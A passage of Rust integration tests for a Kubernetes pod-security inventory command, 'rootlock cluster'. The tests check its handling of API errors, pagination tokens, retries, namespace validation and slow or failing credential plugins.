        o.err.starts_with("rootlock cluster: forbidden: cannot list replicasets.apps across all namespaces (RBAC): pods is forbidden: User \"system:anonymous\""),
        "{}",
        o.err
    );
}

#[test]
fn server_errors_and_bad_continue_tokens_are_reported() {
    let server = failing(status(500, "InternalError", "etcdserver: leader changed"));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    assert_eq!(
        o.err,
        format!(
            "rootlock cluster: the API server at {} answered GET /api/v1/pods?limit=500 with 500 InternalError: etcdserver: leader changed\n",
            server.url()
        )
    );
    // The second page's token is refused (400): the first page's work is
    // not reported as if it were the whole cluster.
    let server = ReplayServer::start(Arc::new(|path: &str| {
        if path.starts_with("/api/v1/pods") && query(path, "continue").is_some() {
            Reply::recorded_error(&testdata("bad-continue.txt"))
        } else {
            recorded(path)
        }
    }));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    assert!(o.out.is_empty());
    assert!(
        o.err.contains(&format!("GET /api/v1/pods?limit=500&continue={TOKEN} with 400 BadRequest: invalid continue token")),
        "{}",
        o.err
    );
    // The token outlived the API server's compaction (410 Expired, the
    // Status apiserver's storage layer writes): no partial inventory, and
    // advice that shortens the list rather than lengthening it.
    let server = ReplayServer::start(Arc::new(|path: &str| {
        if path.starts_with("/api/v1/pods") && query(path, "continue").is_some() {
            status(
                410,
                "Expired",
                "The provided continue parameter is too old to display a consistent list result. You can start a new list without the continue parameter, or use the continue token in this response to retrieve the remainder of the results.",
            )
        } else {
            recorded(path)
        }
    }));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    assert!(o.out.is_empty());
    assert_eq!(
        o.err,
        "rootlock cluster: listing pods took too long: the API server expired the continue token (410 Gone); run again, or raise --chunk-size (fewer, larger pages finish sooner)\n"
    );
    // A 410 on the first page had no continue token to expire (a proxy, or
    // an API server's own Gone): its text is kept, not explained as one.
    let server = ReplayServer::start(Arc::new(|path: &str| {
        if path.starts_with("/api/v1/pods") {
            status(410, "Gone", "the resource is gone")
        } else {
            recorded(path)
        }
    }));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    assert_eq!(
        o.err,
        format!(
            "rootlock cluster: the API server at {} answered GET /api/v1/pods?limit=500 with 410 Gone: the resource is gone\n",
            server.url()
        )
    );
}

/// Something in front of the API server (an authenticating proxy, a load
/// balancer) answers with its own body, not a Status: the HTTP code still
/// decides what went wrong, and an HTML page is not quoted whole.
#[test]
fn errors_without_a_status_body_keep_their_http_code() {
    let reply = |status: u16, body: &str| Reply {
        status,
        body: body.to_string().into(),
        delay: Duration::ZERO,
        headers: Vec::new(),
    };
    let server = failing(reply(403, r#"{"error":"access denied by policy"}"#));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    assert_eq!(
        o.err,
        "rootlock cluster: forbidden: cannot list pods across all namespaces (RBAC): {\"error\":\"access denied by policy\"}; check with `kubectl auth can-i list pods -A`\n"
    );
    let page = format!(
        "<html>\n<head><title>502 Bad Gateway</title></head>\n<body>{}</body></html>",
        "x".repeat(5000)
    );
    let server = failing(reply(502, &page));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    let expected = format!(
        "rootlock cluster: the API server at {} answered GET /api/v1/pods?limit=500 with 502 Bad Gateway: <html> <head><title>502 Bad Gateway</title></head> <body>",
        server.url()
    );
    assert!(o.err.starts_with(&expected), "{}", o.err);
    assert!(o.err.ends_with("…\n") && o.err.len() < 400, "{}", o.err);
}

/// A Status body's message is quoted up to 2,000 characters: a server or
/// proxy that put a megabyte there had it printed whole.
#[test]
fn a_huge_status_message_is_quoted_shortened() {
    let server = failing(status(500, "InternalError", &"x".repeat(1 << 20)));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    let expected = format!(
        "rootlock cluster: the API server at {} answered GET /api/v1/pods?limit=500 with 500 InternalError: {}…\n",
        server.url(),
        "x".repeat(2000)
    );
    assert_eq!(o.err, expected);
}

#[test]
fn a_slow_server_times_out_with_exit_2() {
    let server = failing(Reply {
        status: 200,
        body: testdata("pods-page2.json").into(),
        delay: Duration::from_secs(5),
        headers: Vec::new(),
    });
    let started = Instant::now();
    let o = run(&server, &["--request-timeout", "1"]);
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(o.code, 2);
    assert_eq!(
        o.err,
        format!(
            "rootlock cluster: timed out after 1s waiting for the API server at {} (GET /api/v1/pods?limit=500); raise --request-timeout or check the server's load\n",
            server.url()
        )
    );
}

#[test]
fn bad_levels_are_usage_errors() {
    let server = recorded_server();
    let o = run(&server, &["--what-if", "Restricted"]);
    assert_eq!(o.code, 2);
    assert!(
        o.err.contains("--what-if Restricted: invalid level"),
        "{}",
        o.err
    );
    assert!(server.paths().is_empty(), "nothing is requested");
}

#[test]
fn a_generated_100k_pod_cluster_gives_the_right_counts() {
    use replay::generate::{NAMESPACES, REPLICAS, Shape, handler, shape};
    const PODS: usize = 100_000;
    let handler: Handler = handler(PODS);
    let server = ReplayServer::start(handler);
    let o = run(&server, &["--format", "json"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let v: Value = serde_json::from_str(&o.out).expect("json");
    // Expected from the layout, counted independently of the generator.
    let groups = PODS / REPLICAS;
    let bare = (0..groups).filter(|g| shape(*g) == Shape::Bare).count();
    let workloads = (groups - bare) + bare * REPLICAS;
    let passing_groups =
        |s: &dyn Fn(usize) -> bool| (0..groups).filter(|g| g % 3 == 0 && s(*g)).count();
    let passing = passing_groups(&|g| shape(g) != Shape::Bare)
        + passing_groups(&|g| shape(g) == Shape::Bare) * REPLICAS;
    assert_eq!(v["summary"]["pods"], PODS);
    assert_eq!(v["summary"]["workloads"], workloads);
    assert_eq!(v["summary"]["namespaces"], NAMESPACES);
    assert_eq!(v["summary"]["containers"], workloads);
    assert_eq!(v["summary"]["failingWorkloads"], workloads - passing);
    let ws = v["workloads"].as_array().expect("workloads");
    let count = |kind: &str| ws.iter().filter(|w| w["kind"] == kind).count();
    assert_eq!(
        count("Deployment"),
        (0..groups)
            .filter(|g| shape(*g) == Shape::Deployment)
            .count()
    );
    assert_eq!(
        count("CronJob"),
        (0..groups).filter(|g| shape(*g) == Shape::CronJob).count()
    );
    assert_eq!(count("Pod"), bare * REPLICAS);
    assert_eq!(count("ReplicaSet") + count("Job"), 0);
    assert!(
        ws.iter()
            .filter(|w| w["kind"] != "Pod")
            .all(|w| w["pods"] == REPLICAS)
    );
    let pages = server
        .paths()
        .iter()
        .filter(|p| p.starts_with("/api/v1/pods"))
        .count();
    assert_eq!(pages, PODS / 500);
}

/// A server (or a caching proxy) that hands back a continue token already
/// followed would page for ever, adding the same pods each round: the
/// listing stops with exit 2. (This one gives up after 20 rounds, so the
/// test ends either way.)
#[test]
fn a_continue_token_followed_before_stops_the_listing() {
    let rounds = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let seen = rounds.clone();
    let server = ReplayServer::start(Arc::new(move |path: &str| {
        if !path.starts_with("/api/v1/pods") {
            return recorded(path);
        }
        let n = seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        let mut page: Value = serde_json::from_str(&testdata("pods-page1.json")).unwrap();
        page["metadata"]["continue"] = if n < 20 { "again".into() } else { Value::Null };
        Reply::ok(page.to_string())
    }));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2, "{}", o.err);
    assert!(
        o.err.contains("continue=again") && o.err.contains("followed before"),
        "{}",
        o.err
    );
    assert_eq!(rounds.load(std::sync::atomic::Ordering::SeqCst), 2);
}

/// A server that hands out a new continue token with every page, and no
/// item, would page for ever (no token repeats, so the check above never
/// fires): after 100 such pages in a row the listing stops with exit 2.
/// (This one gives up after 1,000 pages, so the test ends either way.)
#[test]
fn endless_empty_pages_with_new_continue_tokens_stop_the_listing() {
    let server = pods_answered_by(|path: &str| {
        let n: u64 = query(path, "continue")
            .and_then(|t| t.strip_prefix('t').map(str::to_string))
            .and_then(|n| n.parse().ok())
            .unwrap_or(0);
        let next = if n < 1000 {
            Value::String(format!("t{}", n + 1))
        } else {
            Value::Null
        };
        let page = serde_json::json!({"kind": "PodList", "apiVersion": "v1",
            "metadata": {"continue": next}, "items": []});
        Reply::ok(page.to_string())
    });
    let o = run(&server, &[]);
    assert_eq!(o.code, 2, "{}", o.err);
    assert_eq!(
        o.err,
        "rootlock cluster: unexpected response to GET /api/v1/pods?limit=500&continue=t99: 100 pages in a row held no item, each with a new continue token: the list would never end\n"
    );
}

/// A continue token longer than any list needs is an error naming the
/// page that carried it: followed, it made a request line too long to
/// send ("uri too long"), and the error quoted that line, token and all
/// (a megabyte of message for a megabyte of token).
#[test]
fn a_huge_continue_token_is_an_error_of_a_few_words() {
    let server = pods_answered_by(|_: &str| {
        let mut page: Value = serde_json::from_str(&testdata("pods-page1.json")).unwrap();
        page["metadata"]["continue"] = Value::String("A".repeat(1 << 20));
        Reply::ok(page.to_string())
    });
    let o = run(&server, &[]);
    assert_eq!(o.code, 2, "{}", o.err);
    assert_eq!(
        o.err,
        "rootlock cluster: unexpected response to GET /api/v1/pods?limit=500: the continue token of this page is 1048576 bytes long, more than the 16384 a list could need\n"
    );
}

/// With `-n`, the namespace itself is read (`get`); a 403 there names that
/// namespace and the `kubectl auth can-i` question that matches the request.
#[test]
fn a_forbidden_namespace_names_itself_and_the_matching_check() {
    let server = ReplayServer::start(Arc::new(|path: &str| {
        if path == "/api/v1/namespaces/shop" {
            status(
                403,
                "Forbidden",
                "namespaces \"shop\" is forbidden: User \"dev\" cannot get resource \"namespaces\" in API group \"\" in the namespace \"shop\"",
            )
        } else {
            recorded(path)
        }
    }));
    let o = run(&server, &["-n", "shop"]);
    assert_eq!(o.code, 2, "{}", o.err);
    assert!(
        o.err
            .starts_with("rootlock cluster: forbidden: cannot get namespaces/shop (RBAC): "),
        "{}",
        o.err
    );
    assert!(
        o.err
            .ends_with("; check with `kubectl auth can-i get namespaces/shop`\n"),
        "{}",
        o.err
    );
}

/// Go's JSON decoder, which the API server and kubectl use, reads `null`
/// as an absent field; objects written by other clients (or relayed by an
/// aggregated API or a proxy) can carry it. A pod, a controller or a list
/// whose optional metadata is `null` is read as if the field were not
/// there, not dropped with an error.
#[test]
fn null_metadata_fields_read_as_absent() {
    let server = ReplayServer::start(Arc::new(|path: &str| {
        let mut reply = chained(path);
        let p = path.split('?').next().unwrap_or(path);
        if !matches!(
            p,
            "/api/v1/pods" | "/apis/apps/v1/replicasets" | "/apis/apps/v1/deployments"
        ) {
            return reply;
        }
        let mut v: Value = serde_json::from_slice(&reply.body).expect("json");
        for item in v["items"].as_array_mut().expect("items") {
            let meta = &mut item["metadata"];
            match meta["ownerReferences"].as_array_mut() {
                Some(refs) => {
                    for r in refs {
                        r["apiVersion"] = Value::Null;
                        r["blockOwnerDeletion"] = Value::Null;
                    }
                }
                None => meta["ownerReferences"] = Value::Null,
            }
        }
        if p == "/apis/apps/v1/deployments" {
            v["metadata"] = Value::Null;
        }
        reply.body = v.to_string().into();
        reply
    }));
    let o = run(&server, &["--format", "json"]);
    assert_eq!(o.code, 1, "{}", o.err);
    assert_eq!(o.err, "");
    let v: Value = serde_json::from_str(&o.out).expect("json");
    assert_eq!(v["errors"], serde_json::json!([]));
    assert_eq!(v["summary"]["pods"], 6, "{}", o.out);
    assert_eq!(v["summary"]["workloads"], 5, "{}", o.out);
}

/// `-n` takes a namespace name (a DNS-1123 label, as the API server
/// validates it): an empty or malformed one is a usage error (exit 2 from
/// the argument parser) that says what a name must look like, not a
/// request for `/api/v1/namespaces/` or a path with an escaped slash.
#[test]
fn a_malformed_namespace_flag_is_a_usage_error() {
    use clap::Args;
    for bad in [
        "",
        "a/b",
        "Shop",
        "-shop",
        "shop-",
        &"x".repeat(64),
        "sh op",
    ] {
        let cmd = ClusterArgs::augment_args(clap::Command::new("cluster"));
        let e = cmd
            .try_get_matches_from(["cluster".to_string(), format!("--namespace={bad}")])
            .expect_err(bad);
        assert_eq!(e.kind(), clap::error::ErrorKind::ValueValidation, "{bad:?}");
        assert_eq!(e.exit_code(), 2);
        let text = e.to_string();
        assert!(
            text.contains("lowercase letters, digits and '-'"),
            "{bad:?}: {text}"
        );
    }
    for good in ["shop", "kube-system", "a", &"x".repeat(63), "0ns"] {
        let cmd = ClusterArgs::augment_args(clap::Command::new("cluster"));
        assert!(
            cmd.try_get_matches_from(["cluster", "-n", good]).is_ok(),
            "{good:?}"
        );
    }
}

/// API Priority and Fairness answers a request it has no seat for with
/// 429 and `Retry-After`; a server restarting behind a load balancer can
/// answer 5xx with `Retry-After`. kubectl (client-go) waits and sends the
/// request again; so does `cluster`, a bounded number of times. A 5xx
/// without `Retry-After` is not retried (the test above).
#[test]
fn a_busy_server_asking_to_retry_is_retried() {
    let throttled = |code: u16, reason: &str| {
        let mut r = status(
            code,
            reason,
            "the server has received too many requests and has asked us to try again later",
        );
        r.headers = vec![("retry-after", "0".to_string())];
        r
    };
    let refusals = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = refusals.clone();
    let server = ReplayServer::start(Arc::new(move |path: &str| {
        // The second page is refused twice (429, then a 500 that says
        // when to come back), then served.
        if path.starts_with("/api/v1/pods") && query(path, "continue").is_some() {
            match count.fetch_add(1, std::sync::atomic::Ordering::SeqCst) {
                0 => return throttled(429, "TooManyRequests"),
                1 => return throttled(500, "InternalError"),
                _ => {}
            }
        }
        recorded(path)
    }));
    let o = run(&server, &["--format", "json"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let v: Value = serde_json::from_str(&o.out).expect("json");
    assert_eq!(v["summary"]["pods"], 3);
    let second = format!("/api/v1/pods?limit=500&continue={TOKEN}");
    assert_eq!(server.paths().iter().filter(|p| **p == second).count(), 3);

    // A server that never stops asking: given up on, with its answer.
    let server = failing(throttled(429, "TooManyRequests"));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    assert!(o.err.contains("with 429 TooManyRequests"), "{}", o.err);
    assert!(o.out.is_empty());
    let tries = server
        .paths()
        .iter()
        .filter(|p| p.starts_with("/api/v1/pods"))
        .count();
    assert!((2..=20).contains(&tries), "{tries} requests");
}

/// Pods whose controller is not a pod-template controller (an Argo
/// `Workflow` runs one pod per step, each of its own spec; Spark's
/// executors are owned by the driver) are not replicas of one template:
/// each is judged, as PSA's dry-run judges every pod. Only a privileged
/// step listed after a harmless one used to be counted without being
/// looked at, and the what-if said the namespace was fine.
#[test]
fn pods_of_a_custom_controller_are_each_judged() {
    let server = pods_answered_by(|_: &str| {
        let workflow = serde_json::json!([{"apiVersion": "argoproj.io/v1alpha1",
            "kind": "Workflow", "name": "build", "uid": "wf-1", "controller": true,
            "blockOwnerDeletion": true}]);
        let base = items("pods-page1.json").remove(0);
        let mut pods = Vec::new();
        for (name, privileged) in [("build-a", false), ("build-b", true), ("build-c", false)] {
            let mut pod = base.clone();
            pod["metadata"]["name"] = name.into();
            pod["metadata"]["uid"] = format!("uid-{name}").into();
            pod["metadata"]["ownerReferences"] = workflow.clone();
            if privileged {
                pod["spec"]["containers"][0]["securityContext"] =
                    serde_json::json!({"privileged": true});
            }
            pods.push(pod);
        }
        Reply::ok(list("Pod", "v1", pods))
    });
    let o = run(&server, &["--format", "json", "--what-if", "baseline"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let v: Value = serde_json::from_str(&o.out).expect("json");
    let default = &v["namespaces"][0];
    assert_eq!(default["name"], "default");
    assert_eq!(
        default["whatIf"]["warnings"],
        serde_json::json!([
            "existing pods in namespace \"default\" violate the new PodSecurity enforce level \"baseline:latest\"",
            "build-b: privileged",
        ]),
        "{}",
        o.out
    );
    // One workload of three pods, in two entries (the steps judged alike
    // share one), each named by a pod it judges.
    assert_eq!(default["workloads"], 1, "{}", o.out);
    assert_eq!(default["pods"], 3);
    let entries: Vec<(String, u64)> = v["workloads"]
        .as_array()
        .expect("workloads")
        .iter()
        .filter(|w| w["namespace"] == "default")
        .map(|w| {
            (
                format!(
                    "{}/{}@{}",
                    w["kind"].as_str().unwrap_or(""),
                    w["name"].as_str().unwrap_or(""),
                    w["revision"].as_str().unwrap_or("")
                ),
                w["pods"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(
        entries,
        [
            ("Workflow/build@build-a".to_string(), 2),
            ("Workflow/build@build-b".to_string(), 1)
        ]
    );
}

/// A kubeconfig user whose credentials cannot be had (an exec plugin that
/// is not installed, a token file that is gone) is a credentials problem
/// of this kubeconfig, not an unreachable server: the error says which
/// plugin or file, and the plugin's `installHint`, as kubectl does.
#[test]
fn missing_credential_plugins_and_token_files_are_named() {
    let server = recorded_server();
    let dir = tempfile::tempdir().expect("tempdir");
    let kc = server.kubeconfig(dir.path(), "replay");
    let text = std::fs::read_to_string(&kc).expect("kubeconfig");
    let exec = "exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: rootlock-no-such-plugin\n      installHint: install it with `brew install rootlock-no-such-plugin`";
    let token_file = format!("tokenFile: {}", dir.path().join("gone-token").display());
    let (script, failing) = plugin(
        dir.path(),
        "acme-login",
        "#!/bin/sh\necho 'session expired' >&2\nexit 3\n",
        "Never",
    );
    let failing_text = format!(
        "the credential plugin {:?} (exec in the kubeconfig user) failed (exit status: 3): session expired;",
        script.display().to_string()
    );
    for (user, expected) in [
        (
            failing,
            vec![
                "cannot get credentials for the API server at",
                failing_text.as_str(),
            ],
        ),
        (
            exec.to_string(),
            vec![
                "cannot get credentials for the API server at",
                "the credential plugin \"rootlock-no-such-plugin\" (exec in the kubeconfig user) could not be run: No such file or directory",
                "install it with `brew install rootlock-no-such-plugin`",
            ],
        ),
        (
            token_file,
            vec!["cannot get credentials for the API server at", "gone-token"],
        ),
    ] {
        std::fs::write(&kc, text.replace("token: replay-token", &user)).expect("write");
        let mut out = Vec::new();
        let mut err = Vec::new();
        let code = run_with(&args(&kc, &[]), &mut out, &mut err, false);
        let err = String::from_utf8(err).expect("utf-8");
        assert_eq!(code, 2, "{err}");
        for part in expected {
            assert!(err.contains(part), "{part:?} not in {err}");
        }
        assert!(!err.contains("cannot reach"), "{err}");
    }
    assert!(server.paths().is_empty(), "{:?}", server.paths());
}

/// Writes shell script `script` as the executable `dir/name`; returns its
/// path and a kubeconfig user (`exec`) that runs it with `interactiveMode:
/// mode`, to put in place of the recorded `token: replay-token`.
fn plugin(
    dir: &std::path::Path,
    name: &str,
    script: &str,
    mode: &str,
) -> (std::path::PathBuf, String) {
    use std::os::unix::fs::PermissionsExt;
    let path = dir.join(name);
    std::fs::write(&path, script).expect("script");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let user = format!(
        "exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: {}\n      interactiveMode: {mode}",
        path.display()
    );
    (path, user)
}

/// Runs `rootlock cluster --request-timeout 1` with kubeconfig `kc`, whose
/// plugin writes its pids to `pids` and waits while `hold` exists; returns
/// its exit status and stderr, once its processes are checked to have
/// been stopped ([`plugin_processes_left_running`]) and `hold` is removed.
fn give_up_on_the_plugin(
    kc: &std::path::Path,
    pids: &std::path::Path,
    hold: &std::path::Path,
) -> (i32, String) {
    let cluster_args = args(kc, &["--request-timeout", "1"]);
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut out = Vec::new();
        let mut err = Vec::new();
        let code = run_with(&cluster_args, &mut out, &mut err, false);
        let _ = tx.send((code, String::from_utf8(err).expect("utf-8")));
    });
    let answer = rx.recv_timeout(Duration::from_secs(20));
    let left = plugin_processes_left_running(pids);
    let _ = std::fs::remove_file(hold);
    let answer = answer.expect("rootlock cluster gave up on the plugin within 20s");
    assert_eq!(left, Vec::<String>::new(), "the plugin was left running");
    answer
}

/// The processes a test plugin wrote to `pids` (itself and a child of its
/// own) that are still running, waiting up to 5 s for them to end; those
/// left are killed so that a failing test leaves nothing behind.
fn plugin_processes_left_running(pids: &std::path::Path) -> Vec<String> {
    let listed = std::fs::read_to_string(pids).unwrap_or_default();
    let listed: Vec<String> = listed.lines().map(str::to_string).collect();
    assert_eq!(listed.len(), 2, "the plugin did not start: {listed:?}");
    let running = |pid: &String| {
        std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .ok()
            .and_then(|stat| Some(stat[stat.rfind(')')? + 2..].starts_with(['R', 'S', 'D', 'T'])))
            .unwrap_or(false)
    };
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    while listed.iter().any(running) && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let left: Vec<String> = listed.into_iter().filter(running).collect();
    for pid in &left {
        let _ = std::process::Command::new("kill")
            .args(["-9", pid])
            .status();
    }
    left
}

/// An exec credential plugin that never answers (a login flow waiting for
/// a browser, a prompt with no terminal): kube runs it with no time limit
/// while it builds the client, and the command hung forever. It now gives
/// up after --request-timeout, naming the plugin, with exit status 2.
#[test]
fn a_credential_plugin_that_never_answers_times_out_naming_it() {
    let server = recorded_server();
    let dir = tempfile::tempdir().expect("tempdir");
    let kc = server.kubeconfig(dir.path(), "replay");
    let text = std::fs::read_to_string(&kc).expect("kubeconfig");
    // The plugin waits as long as `hold` exists: once the test is over
    // (the TempDir gone), a plugin still running, or run again by kube
    // after this one gave up, ends by itself.
    let hold = dir.path().join("hold");
    std::fs::write(&hold, "").expect("hold");
    let pids = dir.path().join("pids");
    let (script, user) = plugin(
        dir.path(),
        "sso-login",
        &format!(
            "#!/bin/sh\necho $$ >> '{pids}'\nsleep 300 &\necho $! >> '{pids}'\nwhile [ -e '{hold}' ]; do sleep 0.1; done\nexit 1\n",
            pids = pids.display(),
            hold = hold.display()
        ),
        "Never",
    );
    std::fs::write(&kc, text.replace("token: replay-token", &user)).expect("write");
    let (code, err) = give_up_on_the_plugin(&kc, &pids, &hold);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains(&format!(
            "the credential plugin {:?} (exec in the kubeconfig user) did not answer within 1s",
            script.display().to_string()
        )),
        "{err}"
    );
    assert!(
        err.contains("cannot get credentials for the API server at"),
        "{err}"
    );
    assert!(server.paths().is_empty(), "{:?}", server.paths());
}

/// An exec plugin's token that has expired is renewed by kube inside the
/// next request, by running the plugin again: one that hangs then (a
/// single sign-on session that ended and now waits for a browser) used up
/// the request timeout, and the error blamed the API server alone. It
/// names the plugin too.
#[test]
fn a_credential_plugin_that_hangs_renewing_its_token_is_named_in_the_timeout() {
    let server = recorded_server();
    let dir = tempfile::tempdir().expect("tempdir");
    let kc = server.kubeconfig(dir.path(), "replay");
    let text = std::fs::read_to_string(&kc).expect("kubeconfig");
    let runs = dir.path().join("runs");
    let hold = dir.path().join("hold");
    std::fs::write(&hold, "").expect("hold");
    let pids = dir.path().join("pids");
    // kube 5 runs the plugin three times while it builds the client (for a
    // client certificate, twice, and for a token): each time a token that
    // has already expired. The next run, renewing it for the first
    // request, waits as long as `hold` exists.
    let (script, user) = plugin(
        dir.path(),
        "sso-token",
        &format!(
            "#!/bin/sh\nn=$(cat '{runs}' 2>/dev/null | wc -l)\necho run >> '{runs}'\nif [ \"$n\" -ge 3 ]; then\n  echo $$ >> '{pids}'\n  sleep 300 &\n  echo $! >> '{pids}'\n  while [ -e '{hold}' ]; do sleep 0.1; done\n  exit 1\nfi\n{expired}",
            runs = runs.display(),
            hold = hold.display(),
            pids = pids.display(),
            expired = echo_credential(Some("2020-01-01T00:00:00Z")),
        ),
        "Never",
    );
    std::fs::write(&kc, text.replace("token: replay-token", &user)).expect("write");
    let (code, err) = give_up_on_the_plugin(&kc, &pids, &hold);
    let ran = std::fs::read_to_string(&runs).unwrap_or_default();
    assert_eq!(
        ran.lines().count(),
        4,
        "the plugin was not run again: {err}"
    );
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("timed out after 1s waiting for the API server"),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "or for the credential plugin {:?} (exec in the kubeconfig user)",
            script.display().to_string()
        )),
        "{err}"
    );
}

/// A rollout, or a CronJob's next run, that starts while the cluster is
/// being listed: the new ReplicaSet or Job did not exist when the links
/// were listed, but its pods are in the pod list. Their owner is listed
/// again, and the pods still count for the Deployment and the CronJob,
/// not as a `ReplicaSet/…` or `Job/…` of their own beside a Deployment
/// judged from its template.
#[test]
fn controllers_created_during_the_listing_still_collapse_into_their_workload() {
    let calls = Arc::new(std::sync::Mutex::new(std::collections::HashMap::<
        String,
        usize,
    >::new()));
    let seen = calls.clone();
    let server = ReplayServer::start(Arc::new(move |path: &str| {
        let p = path.split('?').next().unwrap_or(path).to_string();
        let n = {
            let mut calls = seen.lock().expect("calls");
            let n = calls.entry(p.clone()).or_default();
            *n += 1;
            *n
        };
        // The previous ReplicaSet of `web` (same template) was listed in
        // time and runs one pod; the new one was not yet.
        let mut reply = chained(path);
        let mut v: Value = serde_json::from_slice(&reply.body).expect("json");
        let items = v["items"].as_array_mut().expect("items");
        match p.as_str() {
            "/apis/apps/v1/replicasets" => {
                let mut old = items[0].clone();
                old["metadata"]["name"] = "web-5f6d8a".into();
                old["metadata"]["uid"] = "rs-web-old".into();
                if n == 1 {
                    items.clear();
                }
                items.push(old);
            }
            "/apis/batch/v1/jobs" if n == 1 => items.clear(),
            "/api/v1/pods" => {
                let mut pod = items
                    .iter()
                    .find(|p| p["metadata"]["name"] == "web-7d4b9c-aa1")
                    .cloned()
                    .expect("replica");
                pod["metadata"]["name"] = "web-5f6d8a-bb2".into();
                pod["metadata"]["uid"] = "uid-web-old".into();
                pod["metadata"]["ownerReferences"][0]["name"] = "web-5f6d8a".into();
                pod["metadata"]["ownerReferences"][0]["uid"] = "rs-web-old".into();
                items.push(pod);
            }
            _ => return reply,
        }
        reply.body = v.to_string().into();
        reply
    }));
    let o = run(&server, &["--format", "json"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let v: Value = serde_json::from_str(&o.out).expect("json");
    let entries: Vec<(String, u64, String)> = v["workloads"]
        .as_array()
        .expect("workloads")
        .iter()
        .filter(|w| w["namespace"] == "shop")
        .map(|w| {
            (
                format!(
                    "{}/{}",
                    w["kind"].as_str().unwrap_or(""),
                    w["name"].as_str().unwrap_or("")
                ),
                w["pods"].as_u64().unwrap_or(0),
                w["source"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    assert_eq!(
        entries,
        [
            ("CronJob/nightly".to_string(), 1, "pod".to_string()),
            ("Deployment/web".to_string(), 3, "pod".to_string()),
            ("Pod/p1".to_string(), 1, "pod".to_string()),
            ("Pod/p3".to_string(), 1, "pod".to_string()),
        ],
        "{}",
        o.out
    );
    assert_eq!(v["summary"]["workloads"], 5);
    let calls = calls.lock().expect("calls");
    assert_eq!(calls.get("/apis/apps/v1/replicasets"), Some(&2));
    assert_eq!(calls.get("/apis/batch/v1/jobs"), Some(&2));
}

/// An item whose metadata cannot be read is named in the error (as far as
/// its name can be read), so it can be found with kubectl.
#[test]
fn an_unreadable_pod_is_named() {
    let server = pods_answered_by(|_: &str| {
        let mut pod = items("pods-page1.json").remove(0);
        pod["metadata"]["ownerReferences"] = serde_json::json!({"kind": "ReplicaSet"});
        Reply::ok(list("Pod", "v1", vec![pod]))
    });
    let o = run(&server, &[]);
    assert_eq!(o.code, 2, "{}", o.err);
    assert!(
        o.err.contains("rootlock cluster: default/Pod/d1 could not be read: invalid type: map, expected a sequence"),
        "{}",
        o.err
    );
}

/// An item without the uid, namespace or name every listed object has is
/// not one: it is named (as far as it can be) and the exit status is 2.
/// Entries are keyed by uid, so bare pods without one, in any namespace,
/// were folded into the first one's entry (`y/b` counted as a replica of
/// `x/a`, namespace `y` shown with no workloads), and one without a name
/// or namespace was listed as `Pod/` in namespace "".
#[test]
fn an_item_without_uid_namespace_or_name_is_an_error_not_folded() {
    let server = pods_answered_by(|_: &str| {
        let pods = items("pods-page1.json");
        let bare = |ns: &str, name: &str| {
            let mut pod = pods[0].clone();
            pod["metadata"] = serde_json::json!({"name": name, "namespace": ns});
            pod
        };
        let mut nameless = pods[0].clone();
        nameless["metadata"] = serde_json::json!({"uid": "u-1"});
        Reply::ok(list(
            "Pod",
            "v1",
            vec![bare("default", "a"), bare("shop", "b"), nameless],
        ))
    });
    let o = run(&server, &["--format", "json"]);
    assert_eq!(o.code, 2, "{}", o.err);
    assert_eq!(
        o.err,
        "rootlock cluster: default/Pod/a without metadata.uid was skipped\n\
         rootlock cluster: shop/Pod/b without metadata.uid was skipped\n\
         rootlock cluster: a Pod without metadata.name or metadata.namespace was skipped\n"
    );
}

/// With `-n shop`, an answer that is another namespace (a proxy's mix-up)
/// is an error: its labels were shown under its own name, and `shop` shown
/// unlabelled, as if nothing enforced there.
#[test]
fn another_namespace_where_one_was_asked_for_is_an_error() {
    let server = ReplayServer::start(Arc::new(|path: &str| {
        if path == "/api/v1/namespaces/shop" {
            Reply::ok(r#"{"kind":"Namespace","metadata":{"name":"other","labels":{"rootlock.dev/enforce":"immutable"}}}"#.to_string())
        } else {
            recorded(path)
        }
    }));
    let o = run(&server, &["-n", "shop"]);
    assert_eq!(o.code, 2, "{}", o.out);
    assert_eq!(
        o.err,
        "rootlock cluster: unexpected response to GET /api/v1/namespaces/shop: asked for namespace \"shop\", got namespace \"other\"\n"
    );
}

/// A namespace whose name cannot be read is no namespace: a `{}` (or a
/// `Status`, or a list) where the namespace was asked for, or a list item
/// without a name, is an error naming the request, not a namespace ""
/// listed beside the real ones (whose admission labels were then missed).
#[test]
fn a_namespace_without_a_name_is_an_error() {
    let server = ReplayServer::start(Arc::new(|path: &str| {
        if path == "/api/v1/namespaces/shop" {
            Reply::ok("{}".to_string())
        } else {
            recorded(path)
        }
    }));
    let o = run(&server, &["-n", "shop"]);
    assert_eq!(o.code, 2, "{}", o.out);
    assert_eq!(
        o.err,
